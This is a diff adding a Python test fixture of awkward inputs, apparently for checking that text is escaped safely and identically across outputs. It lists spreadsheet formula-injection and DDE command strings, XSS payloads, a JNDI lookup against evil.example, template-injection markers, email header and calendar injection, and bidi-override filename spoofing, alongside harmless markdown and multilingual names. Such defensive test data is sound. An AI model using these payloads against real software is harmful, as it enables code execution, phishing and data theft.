@@ -1,0 +1,25 @@
+"""Text that has done harm elsewhere: it must come out the same everywhere and do nothing anywhere."""
+
+AWKWARD = (
+    '=HYPERLINK("http://evil.example","click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd",
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "[click](javascript:alert(1)) ![pic](http://evil.example/p.png)",
+    "see http://evil.example or www.evil.example or me@evil.example",
+    "# heading",
+    "- item",
+    "12. item",
+    "    four blanks",
+    "*stars* _lines_ `ticks` ~~waves~~ \\backslash | pipe",
+    "&amp; &#60; &lt;",
+    '${jndi:ldap://evil.example} {{ 7*7 }} #eval("1")',
+    "Subject: x\r\nBcc: all@evil.example",
+    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:another",
+    "a;b,c:d\\n",
+    "abc\u202etxt.exe\u202c \u2066isolated\u2069 \u200fmark",
+    "\U0001f600\U0001f469\u200d\U0001f4bb\U00020bb7 e\u0301 \u00e9",
+    "Nguyễn Minh Thư, ليلى الحارثي, 森下 はるか, Δανάη, Ірина, हिंदी, 김하늘",
+)
